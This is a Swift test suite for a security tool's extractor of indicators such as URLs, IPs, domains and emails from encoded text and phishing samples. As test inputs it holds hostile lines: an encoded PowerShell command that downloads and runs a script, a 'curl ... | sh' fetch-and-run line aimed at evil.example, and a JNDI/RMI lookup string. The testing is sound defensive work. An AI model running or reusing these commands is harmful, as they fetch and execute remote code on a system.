// ObservableExtractor on encoded text (base64 runs, quoted-printable mail), the full TLD list, and
// linear work on seeded hostile inputs, counted rather than timed.
import Foundation
import RiposteCore
import RiposteTesting
import Testing

@Suite("ObservableExtractor: encodings, TLDs and linear work")
struct ObservableExtractorEncodingTests {
    func extract(_ text: String) -> [ObservableDraft] { ObservableExtractor.observables(in: text) }

    func values(_ text: String, _ type: ObservableType) -> [String] {
        extract(text).filter { $0.type == type }.map(\.value)
    }

    func draft(_ type: ObservableType, _ value: String) -> ObservableDraft {
        ObservableDraft(type: type, normalizedValue: value)
    }

    func base64(_ text: String) -> String { Data(text.utf8).base64EncodedString() }

    func corpusText(_ path: String) throws -> String {
        String(decoding: try Corpus.contents(path), as: UTF8.self)
    }

    // MARK: Base64

    @Test("Hashes and base64 runs are found wherever they start, after any mix of short runs")
    func everyStart() {
        // Short hex, base64 and word runs; each cut of it puts the value below at another offset and after another run.
        let filler = String(repeating: "ab cd-ef 0123 x.y/z+Q9 deadbeef ", count: 3)
        let md5 = "d41d8cd98f00b204e9800998ecf8427e"
        let encoded = base64("see http://198.51.100.1/x")
        for length in 0...filler.utf8.count {
            let prefix = String(filler.prefix(length))
            #expect(values(prefix + " " + md5, .md5) == [md5], "md5 after \(length) bytes")
            #expect(values(prefix + "," + md5 + " tail", .md5) == [md5], "md5 after \(length) bytes")
            #expect(values(prefix + " " + encoded, .url) == ["http://198.51.100.1/x"], "base64 after \(length) bytes")
        }
    }

    @Test("A PowerShell -EncodedCommand (UTF-16LE base64) yields the URL and address inside it")
    func encodedCommand() {
        // `IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')` as UTF-16LE.
        let blob =
            "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIA"
            + "aQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhAC4AcABzADEAJwApAA=="
        let expected = [draft(.url, "http://198.51.100.7/a.ps1"), draft(.ipv4, "198.51.100.7")]
        #expect(extract("powershell.exe -NoP -W Hidden -EncodedCommand \(blob)") == expected)
        // Glued to the flag, the run starts three characters early: the offset trial finds the boundary.
        #expect(extract("powershell -enc\(blob)") == expected)
    }

    @Test("Base64 inside base64 is decoded twice, not three times")
    func nesting() {
        let inner = "curl -s http://evil.example/stage2.sh | sh"
        #expect(values("cmd \(base64(inner))", .url) == ["http://evil.example/stage2.sh"])
        #expect(values("cmd \(base64("echo " + base64(inner)))", .url) == ["http://evil.example/stage2.sh"])
        #expect(values("cmd \(base64("echo " + base64("echo " + base64(inner))))", .url).isEmpty)
    }

    @Test("Base64 of binary, identifiers and hex runs yield nothing of their own")
    func binaryIsIgnored() {
        var random = SplitMix64(seed: 42)
        let bytes = (0..<3_000).map { _ in UInt8(truncatingIfNeeded: random.next()) }
        let binary = Data(bytes).base64EncodedString(options: .lineLength76Characters)
        let extraction = ObservableExtractor.extraction(inUTF8: Array(binary.utf8))
        #expect(extraction.decodedRuns == 0)
        #expect(extraction.observables.allSatisfy { [.md5, .sha1, .sha256].contains($0.type) })
        let words = "ObservableExtractorEncodingTests AAAAAAAAAAAAAAAAAAAAAAAA e3b0c44298fc1c149afbf4c8996fb924"
        #expect(ObservableExtractor.extraction(inUTF8: Array(words.utf8)).decodedRuns == 0)
    }

    @Test("A base64 mail attachment wrapped at 76 columns is decoded across its lines")
    func wrappedMailAttachment() throws {
        // The .ics attachment of a real phish: its organiser appears only inside the base64.
        let mail = try corpusText("phishing_emails/phishing_pot-sample-2639.eml")
        let attachment = try #require(mail.range(of: "filename=\"Appointment.ics\""))
        let part = String(mail[attachment.upperBound...])
        #expect(!part.contains("newcupon"))
        let found = extract(part)
        #expect(found.contains(draft(.email, "nalin29873@newcupon.com")))
        #expect(found.contains(draft(.domain, "newcupon.com")))
    }

    @Test("A base64 JSON body in a CACAO playbook yields its addresses and hosts")
    func playbookBody() throws {
        let playbook = try corpusText("playbooks/cacao/soarca-example-openc2-playbook.json")
        #expect(!playbook.contains("198.2.3.4"))
        let found = extract(playbook)
        for expected in [
            draft(.ipv4, "1.2.3.4"), draft(.ipv4, "198.2.3.4"), draft(.domain, "oc2producer.company.net"),
            draft(.domain, "oc2consumer.company.net"),
        ] {
            #expect(found.contains(expected), "\(expected)")
        }
    }

    @Test("A base64 JPEG in a real phish decodes to nothing")
    func jpegAttachment() throws {
        let mail = try corpusText("phishing_emails/phishing_pot-sample-2460.eml")
        let start = try #require(mail.range(of: "Content-ID: <9909937819-1>"))
        let part = String(mail[start.upperBound...])
        #expect(ObservableExtractor.extraction(inUTF8: Array(part.utf8)).decodedRuns == 0)
    }

    @Test("Decoding is capped per run and per call")
    func decodingCaps() {
        let line = String(repeating: "see http://198.51.100.1/x ", count: 60_000)  // 1.56 MB of text
        let one = ObservableExtractor.extraction(inUTF8: Array(base64(line).utf8))
        #expect(one.decodedRuns == 1)
        #expect(one.decodedBytes <= ObservableExtractor.maximumDecodedRunBytes + 2)
        #expect(one.observables.contains(draft(.ipv4, "198.51.100.1")))

        let many = Array(repeating: base64(String(line.prefix(1_100_000))), count: 9).joined(separator: " ")
        let capped = ObservableExtractor.extraction(inUTF8: Array(many.utf8))
        #expect(capped.decodedBytes <= ObservableExtractor.maximumDecodedBytes + 2)
        #expect(capped.decodedRuns == 8)  // eight full runs use the 8 MiB; the ninth is left encoded
    }

    // MARK: Quoted-printable

    @Test("Quoted-printable soft line breaks are joined and escapes decoded in mail URLs")
    func quotedPrintable() throws {
        let mail = try corpusText("phishing_emails/phishing_pot-sample-4751.eml")
        let urls = extract(mail).filter { $0.type == .url }.map(\.value)
        #expect(urls.contains("https://trustwallet.com/terms-of-services"))
        #expect(urls.contains("https://trustwallet.com/assets/images/media/assets/TWT.png"))
        #expect(!urls.contains { $0.hasSuffix("=") })

        let html = "<a href=3D\"https://evil.example/login?id=3D42&amp;next=3D/home\">"
        #expect(values(html, .url) == ["https://evil.example/login?id=42&amp;next=/home"])
        let wrapped = String(repeating: "x", count: 20) + " https://evil.example/very/long/pa=\r\nth/index.html"
        #expect(values(wrapped, .url) == ["https://evil.example/very/long/path/index.html"])
        // Outside quoted-printable, `=3D` is data, and a short `key=` line is not a soft break.
        #expect(values("see https://example.com/view?format=3D now", .url) == ["https://example.com/view?format=3D"])
        #expect(values("host=\nevil.com", .domain) == ["evil.com"])
    }

    // MARK: Words

    @Test("Every domain of the OpenPhish-derived list is found as itself")
    func openPhishDomains() throws {
        let list = try corpusText("threat_intel/blocklists/openphish-derived-domains.txt")
        let lines = list.split(separator: "\n").filter { !$0.hasPrefix("#") && !$0.isEmpty }.map(String.init)
        #expect(lines.count > 1_900)
        let found = Set(extract(list).filter { $0.type == .domain }.map(\.value))
        let missed = lines.filter { !found.contains($0.lowercased()) }
        #expect(missed.isEmpty, "\(missed.prefix(20))")
    }

    @Test("All IANA generic TLDs count, but field and file words need a machine-made name")
    func identifierTopLevelDomains() {
        #expect(
            values("beacon 17712.wang and 4e.sweeply.agency, then gir.network", .domain) == [
                "17712.wang", "4e.sweeply.agency", "gir.network",
            ])
        #expect(values("phish at 2fsd10bdf4ntd5.sviluppo.host", .domain) == ["2fsd10bdf4ntd5.sviluppo.host"])
        for text in [
            "http.host", "file.data", "Wscript.Shell", "host.name", "dns.question.name", "archive.zip", "self.run",
            "binary_ref.name", "remote_location.city",
        ] {
            #expect(values(text, .domain).isEmpty, "\(text)")
        }
        #expect(values("mail bob@example.name", .email) == ["bob@example.name"])
        #expect(values("https://portal.example.host/a", .domain) == ["portal.example.host"])
    }

    @Test("Address ranges, spaced [at], percent escapes, Message-IDs and email domains")
    func wordEdges() {
        #expect(values("RFC1918: 10.0.0.0-10.255.255.255 zone", .ipv4) == ["10.0.0.0", "10.255.255.255"])
        #expect(values("contact feodotracker [at] abuse.ch today", .email) == ["feodotracker@abuse.ch"])
        #expect(values("see x (AT) evil.example", .email) == ["x@evil.example"])
        #expect(values("/a/1.swf?rf=http%3A%2F%2Fd5p.de17a.com%2Fvictory", .domain) == ["d5p.de17a.com"])
        let messageID = "Message-ID: <ZF3l_Ip@s0baw483tQBoc3lLICSn2oqnOR4Yg9PKx0FzDIfDjMPTY8ExANse9RPA3SXwKNsE8hUAv.dcccd.edu>"
        #expect(values(messageID, .domain) == ["dcccd.edu"])
        #expect(extract("from Alice@Example.COM") == [draft(.email, "alice@example.com"), draft(.domain, "example.com")])
        #expect(values("https://json-schema.org/draft-07/schema#", .url) == ["https://json-schema.org/draft-07/schema"])
    }

    @Test("JNDI lookup URLs (ldap, ldaps, rmi) and single-slash http:/ URLs are URLs")
    func moreURLs() throws {
        let eve = try corpusText("pcaps/expected-alerts/suricata-verify_output-multi-eve__input.eve-alerts.jsonl")
        #expect(extract(eve).contains(draft(.url, "ldap://172.16.238.11:1389/a")))
        #expect(
            extract("UA: ${jndi:RMI://Evil.example:1099/x}")
                == [draft(.url, "rmi://evil.example:1099/x"), draft(.domain, "evil.example")])
        #expect(
            values("<img src=\"http:/bzq-82-81-85-250.red.bezeqint.net/9RW.swf?a=1\">", .url) == [
                "http://bzq-82-81-85-250.red.bezeqint.net/9RW.swf?a=1"
            ])
        #expect(ObservableDraft(.url, "LDAPS://Dc.example/x")?.value == "ldaps://dc.example/x")
    }

    @Test("Redirect targets inside a URL's path and parameters are found; file names at the end are not")
    func embeddedNames() throws {
        let mail = try corpusText("phishing_emails/phishing_pot-sample-2207.eml")
        let domains = extract(mail).filter { $0.type == .domain }.map(\.value)
        for expected in ["app.kickserv.com", "logowik.com", "launchxmyfood.blogspot.com"] {
            #expect(domains.contains(expected), "\(expected)")
        }
        #expect(
            extract("go https://r.example/u?to=https%3A%2F%2FEvil.example%2Flogin now") == [
                draft(.url, "https://r.example/u?to=https%3A%2F%2FEvil.example%2Flogin"), draft(.domain, "r.example"),
                draft(.url, "https://evil.example/login"), draft(.domain, "evil.example"),
            ])
        #expect(
            values("see https://github.com/redcanary/atomic-red-team/blob/master/atomics/T1003.005/T1003.005.md", .domain)
                == ["github.com"])
        #expect(values("http://de17a.com/a%2F66207.click", .domain) == ["de17a.com"])
    }

    // MARK: Linear work

    @Test(
        "Work stays linear on seeded hostile inputs",
        arguments: [
            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", "0123456789:", "0123456789abcdef.:",
            "a@.", "a.[]():/hxtp", "ab=\n.", "a-._@:+ \n", "x[dot](at)[.] ",
        ])
    func linearWork(alphabet: String) {
        let symbols = Array(alphabet.utf8)
        var random = SplitMix64(seed: 0x5EED ^ UInt64(symbols.count))
        for size in [20_000, 80_000] {
            let input = (0..<size).map { _ in symbols[Int(random.next() % UInt64(symbols.count))] }
            let extraction = ObservableExtractor.extraction(inUTF8: input)
            // Each pass reads the text once; words, URLs and decoded text are read a bounded number of times more.
            #expect(extraction.work <= 16 * size, "\(extraction.work) for \(size) bytes of \(alphabet.debugDescription)")
            #expect(extraction.decodedBytes <= size)
        }
    }

    @Test("Work stays linear when every run decodes: base64 of base64 of text with URLs")
    func linearWorkWhenDecoding() {
        var random = SplitMix64(seed: 7)
        for size in [20_000, 80_000] {
            var text = ""
            while text.utf8.count < size / 2 {
                text +=
                    "GET http://h\(random.next() % 1000).example/\(random.next() % 100) from 203.0.113.\(random.next() % 250) "
            }
            let input = Array(base64("x " + base64(text)).utf8)
            let extraction = ObservableExtractor.extraction(inUTF8: input)
            #expect(extraction.decodedRuns == 2)
            #expect(extraction.observables.count > 10)
            #expect(extraction.work <= 16 * input.count, "\(extraction.work) for \(input.count) bytes")
        }
    }
}
